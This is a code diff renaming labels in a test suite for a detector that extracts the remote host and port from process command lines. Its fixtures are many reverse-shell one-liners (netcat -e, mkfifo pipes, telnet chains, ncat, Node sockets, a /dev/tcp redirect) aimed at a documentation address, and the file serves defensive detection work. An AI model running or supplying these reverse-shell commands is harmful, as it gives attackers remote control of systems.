@@ -89,8 +89,8 @@ describe('the far end that a script names', () => {
       by('/usr/bin/dash', 'sh', '-c', 'rm f;mkfifo f;cat f|sh -i 2>&1|nc 203.0.113.9 4444 >f'),
     ],
     ['netcat with quotes', by('/bin/bash', 'bash', '-c', `nc -c 'bash -li' "203.0.113.9" 4444`)],
-    ['netcat of sudo', by('/usr/bin/sudo', 'sudo', 'nc', '-e', '/bin/sh', '203.0.113.9', '4444')],
-    ['netcat of BusyBox', by('/bin/busybox', 'nc', '203.0.113.9', '4444', '-e', 'sh')],
+    ['netcat under sudo', by('/usr/bin/sudo', 'sudo', 'nc', '-e', '/bin/sh', '203.0.113.9', '4444')],
+    ['BusyBox netcat', by('/bin/busybox', 'nc', '203.0.113.9', '4444', '-e', 'sh')],
     ['telnet', by('sh', '-c', 'telnet 203.0.113.9 4444 | sh | telnet 203.0.113.9 4445')],
     [
       'netcat on Windows',
@@ -125,7 +125,7 @@ describe('the far end that a script names', () => {
     ],
     ['Node’s socket', by('node', '-e', `new net.Socket().connect(4444,'203.0.113.9')`)],
     ['Node’s variables', by('node', '-e', `const p=4444, h='203.0.113.9'; net.connect(p, h)`)],
-    ['netcat of 64 bits', by(String.raw`C:\t\nc64.exe`, 'nc64.exe', '203.0.113.9', '4444', '-e', 'cmd')],
+    ['64-bit netcat', by(String.raw`C:\t\nc64.exe`, 'nc64.exe', '203.0.113.9', '4444', '-e', 'cmd')],
     ['netcat with a login shell', { exe: '/bin/ncat', arguments: 'ncat 203.0.113.9 4444 -e bash -l' }],
     ['netcat with a login shell, word by word', by('ncat', '203.0.113.9', '4444', '-e', 'bash', '-l')],
     [
@@ -157,18 +157,18 @@ describe('the far end that a script names', () => {
   });
 
   test.each<[string, JsonObject]>([
-    ['a listener of socat', by('socat', 'TCP-LISTEN:4444,fork', 'EXEC:/bin/sh')],
-    ['a listener of Python', by('python3', '-c', 's.bind(("0.0.0.0",4444));s.listen(1)')],
+    ['a socat listener', by('socat', 'TCP-LISTEN:4444,fork', 'EXEC:/bin/sh')],
+    ['a Python listener', by('python3', '-c', 's.bind(("0.0.0.0",4444));s.listen(1)')],
     [
       'a name that is a variable',
       by('python3', '-c', 's.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))))'),
     ],
     ['an invalid port', by('php', '-r', 'fsockopen("203.0.113.9",444444)')],
-    ['base64 of anything', by(powershell, '-enc', 'QUJDREVGR0hJSktMTU5PUA==')],
+    ['other base64', by(powershell, '-enc', 'QUJDREVGR0hJSktMTU5PUA==')],
     ['a variable that is never set', by('bash', '-c', 'bash -i >& /dev/tcp/$H/4444 0>&1')],
     ['variables that are not a host and port', by('python3', '-c', `h=5;p=6;s.connect((h,p))`)],
     ['a listener with an address', by('ncat', '-e', 'sh', '-l', '203.0.113.9', '4444')],
-    ['a look at a port', by('nc', '-vz', '203.0.113.9', '4444')],
+    ['a port check', by('nc', '-vz', '203.0.113.9', '4444')],
     ['a mail', by('sh', '-c', 'mail -s "connect 203.0.113.9 at 4444"')],
   ])('is not guessed: %s', (_, event) => {
     expect(toOf(event)).toBeUndefined();
